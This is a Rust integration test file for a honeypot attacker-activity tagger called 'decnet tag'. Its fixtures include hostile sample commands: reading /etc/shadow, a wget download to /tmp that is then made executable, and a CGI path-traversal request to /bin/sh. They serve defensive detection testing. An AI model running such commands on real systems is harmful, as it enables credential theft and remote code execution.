//! `decnet tag` end to end: JSONL in, tags out, bad lines reported and skipped.

use std::io::Write;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

fn decnet(args: &[&str], stdin: &str) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_decnet"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

fn tags(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn rule_ids(tags: &[Value]) -> Vec<(String, String)> {
    tags.iter()
        .map(|t| {
            (
                t["source_id"].as_str().unwrap().to_owned(),
                t["rule_id"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

#[test]
fn malformed_lines_are_reported_with_their_number_and_the_rest_is_tagged() {
    let input = [
        json!({"source_kind": "command", "source_id": "c1", "attacker_ip": "203.0.113.7", "payload": {"command_text": "cat /etc/shadow"}}).to_string(),
        "{not json".to_owned(),
        String::new(),
        json!({"source_kind": "command", "source_id": "c2", "payload": {"command_text": "uname -a"}}).to_string(),
        json!({"hello": 1}).to_string(),
        json!({"source_kind": "command", "source_id": "c3", "attacker_ip": "203.0.113.7", "payload": {"command_text": "uname -a"}}).to_string(),
    ]
    .join("\n");
    let out = decnet(&["tag"], &input);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        rule_ids(&tags(&out)),
        vec![("c1".into(), "R0014".into()), ("c3".into(), "R0018".into())]
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    let reports: Vec<&str> = stderr.lines().collect();
    assert_eq!(reports.len(), 4, "{stderr}");
    assert!(reports[0].starts_with("line 2: invalid JSON: "), "{stderr}");
    assert_eq!(
        reports[1],
        "line 4: no_anchor: no attacker_uuid, no parsable address and no identity, skipped"
    );
    assert_eq!(
        reports[2],
        "line 5: neither a tagging event (source_kind) nor a bus message (subject), skipped"
    );
    assert_eq!(
        reports[3],
        "decnet tag: 5 lines, 3 invalid, 2 events, 2 tags, 0 suppressed (0 below_floor, 0 rate_limited), 0 list items skipped"
    );
}

#[test]
fn bus_messages_fan_out_like_the_tagger_and_replays_give_the_same_ids() {
    let msg = json!({"subject": "attacker.session.ended", "msg_id": "m-1", "payload": {
        "session_id": "sess-9", "attacker_ip": "203.0.113.7", "decky_id": "decoy-01", "service": "ssh",
        "ended_at": "2026-12-03T10:00:00Z", "duration_s": 30.0,
        "commands": [
            {"command_text": "uname -a; id", "ts": "2026-12-03T09:59:00Z"},
            {"command_text": "cd /tmp; wget http://198.51.100.9/x86 -O /tmp/x; chmod +x /tmp/x", "ts": "2026-12-03T09:59:10Z"}
        ],
        "http_requests": [{"method": "GET", "raw_url": "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "user_agent": "curl/8.4.0", "ts": "2026-12-03T09:59:20Z"}]
    }})
    .to_string();
    let first = decnet(&["tag"], &msg);
    let second = decnet(&["tag"], &msg);
    assert!(first.status.success());
    let (a, b) = (tags(&first), tags(&second));
    let ids = |t: &[Value]| t.iter().map(|t| t["uuid"].clone()).collect::<Vec<_>>();
    assert_eq!(ids(&a), ids(&b), "replay yields the same tag ids");
    let fired = rule_ids(&a);
    assert!(
        fired.contains(&("sess-9#0".into(), "R0018".into())),
        "{fired:?}"
    );
    assert!(
        fired.contains(&("sess-9#0".into(), "R0019".into())),
        "{fired:?}"
    );
    assert!(
        fired.contains(&("sess-9#1".into(), "R0012".into())),
        "{fired:?}"
    );
    assert!(
        fired.contains(&("sess-9#req:0".into(), "R0009".into())),
        "{fired:?}"
    );
    let download = a.iter().find(|t| t["rule_id"] == "R0012").unwrap();
    assert_eq!(
        download["attacker_uuid"],
        json!("6dd21fc3-121b-5123-aaa0-18e21dfe5b91")
    );
    assert_eq!(download["decky_id"], json!("decoy-01"));
    assert_eq!(download["session_id"], json!("sess-9"));
    let evidence = download["evidence"]["command_text"].as_str().unwrap();
    assert!(
        evidence.contains("wget http://198.51.100.9/… -O"),
        "URLs are elided in evidence: {evidence}"
    );
}

#[test]
fn an_invalid_pack_or_an_unreadable_file_is_exit_two() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("R0001.yaml"), "rule_id: [").unwrap();
    let out = decnet(&["tag", "--rules-dir", dir.path().to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.starts_with("R0001.yaml:"), "{stderr}");

    let out = decnet(&["tag", "/nonexistent/input.jsonl"], "");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read /nonexistent/input.jsonl"));
}

#[test]
fn the_rate_limit_applies_offline() {
    let lines: Vec<String> = (0..65)
        .map(|i| json!({"source_kind": "command", "source_id": format!("c{i}"), "attacker_ip": "203.0.113.7",
            "payload": {"command_text": "whoami", "ts": "2026-12-03T10:00:00Z"}}).to_string())
        .collect();
    let out = decnet(&["tag"], &lines.join("\n"));
    assert_eq!(tags(&out).len(), 60);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("65 events, 60 tags, 5 suppressed (0 below_floor, 5 rate_limited)"),
        "{stderr}"
    );
}
